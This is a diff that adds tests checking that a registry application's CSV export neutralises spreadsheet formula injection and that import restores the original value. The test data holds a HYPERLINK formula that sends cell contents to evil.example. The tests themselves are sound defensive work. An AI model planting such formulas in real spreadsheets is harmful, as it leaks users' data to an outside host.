@@ -66,6 +66,32 @@ test('export honours filters', async () => {
   assert.ok(lines[1].includes(name));
 });
 
+// A cell a spreadsheet would read as a formula (=, +, -, @, tab, CR first)
+// is exported with a leading apostrophe, and read back without it.
+for (const [name, ch] of [['=', '='], ['+', '+'], ['-', '-'], ['@', '@'], ['tab', '\t'], ['CR', '\r']]) {
+  test(`export neutralises a cell starting with ${name}; import takes it back`, async () => {
+    const admin = await S.as('admin');
+    const schema = await S.schema();
+    const team = uniq('公式队伍');
+    const equipment = `${ch}HYPERLINK("http://evil.example/?x="&A1,"点击")`;
+    const c = await S.api('POST', '/api/v1/registries/rescue_team', { auth: admin, body: validRecord(schema, 'rescue_team', { name: team, override: { equipment } }) });
+    assert.equal(c.status, 201, desc(c));
+    assert.equal(c.json.equipment, equipment);
+    const ex = await S.api('GET', `/api/v1/registries/rescue_team/export.csv?q=${encodeURIComponent(team)}`, { auth: admin });
+    assert.equal(ex.status, 200, desc(ex));
+    const rows = parseCsv(ex.text);
+    assert.equal(rows.length, 2, ex.text);
+    const col = rows[0].indexOf('主要装备');
+    assert.ok(col >= 0, rows[0].join(','));
+    assert.equal(rows[1][col], `'${equipment}`, 'the cell starts with an apostrophe');
+    const im = await importCsv('rescue_team', ex.buf);
+    assert.equal(im.status, 200, desc(im));
+    assert.equal(im.json.updated, 0, desc(im));
+    const g = await S.api('GET', `/api/v1/registries/rescue_team/${c.json.id}`, { auth: admin });
+    assert.equal(g.json.equipment, equipment, 'the apostrophe is not kept on import');
+  });
+}
+
 for (const reg of [...REGISTRIES, ...M3_REGISTRIES]) {
   test(`round trip ${reg}: importing the export creates nothing`, async () => {
     const admin = await S.as('admin');
